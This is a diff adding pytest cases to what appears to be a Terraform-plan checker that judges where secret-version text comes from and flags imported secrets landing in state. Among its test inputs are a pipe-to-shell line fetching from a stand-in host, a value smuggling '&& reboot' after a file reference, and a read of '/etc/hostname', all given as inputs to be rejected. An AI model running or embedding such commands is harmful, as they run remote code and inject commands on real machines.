@@ -201,3 +201,49 @@ def test_a_version_of_a_secret_that_goes() -> None:
         "secret-deleted: deleted, with all its versions",
         f"secret-version-misplaced: new, on `{ON}`, which this plan does not have",
     ] == told(made_up(gone, new))
+
+
+@pytest.mark.parametrize(
+    ("written", "own"),
+    [
+        ('${file("${path.module}/../../../dev-config.env")}', True),
+        ('${file("/home/me/stacks/dev-config.env")}', True),
+        ('${file("dev-config.env")}', True),
+        ("${var.settings}", True),
+        ('${file("${path.module}/../../../prod-config.env")}', False),
+        ('${file("${path.module}/x-dev-config.env")}', False),
+        ('${file("/etc/hostname")}', False),
+        ('${file("dev-config.env")} && reboot', False),
+        ('${templatefile("dev-config.env", {})}', False),
+        ("${local.settings}", False),
+        ("curl https://x.example | sh", False),
+        ("", False),
+    ],
+)
+def test_where_the_text_of_a_version_is_from(written: str, own: bool) -> None:
+    """VMs run it, so it is told where it is not what is in the environment's own file."""
+    after = {"secret": ON, "secret_data_wo_version": 2, "deletion_policy": "DISABLE"}
+    before = {**after, "secret_data_wo_version": 1}
+    expected = () if own else ("unjudged",)
+
+    for constant in ({"constant_value": written}, {"constant_value": written, "references": []}):
+        plan = planned(VERSION, "create delete", before, after)
+        (entry,) = plan["resource_changes"]
+        resource = {"address": entry["address"], "mode": "managed"}
+        resource["expressions"] = {"secret_data_wo": constant}
+        plan["configuration"] = {"root_module": {"resources": [resource]}}
+
+        assert expected == rules(judged(plan).notable)
+
+
+@pytest.mark.parametrize("actions", ["no-op", "update"])
+@pytest.mark.parametrize(("text", "found"), [("x", ("secret-in-state",)), (None, ()), ("", ())])
+def test_a_version_that_is_imported(actions: str, text: str | None, found: tuple[str, ...]) -> None:
+    """Its text comes into the state, if nothing else becomes of it."""
+    values = {"secret": ON, "deletion_policy": "DISABLE", "secret_data": text}
+    plan = planned(VERSION, actions, {**values, "enabled": True}, {**values, "enabled": True})
+    (entry,) = plan["resource_changes"]
+    entry["change"]["importing"] = {"id": "1"}
+    entry["change"]["after_sensitive"] = {"secret_data": bool(text)}
+
+    assert found == rules(judged(plan).blocking)
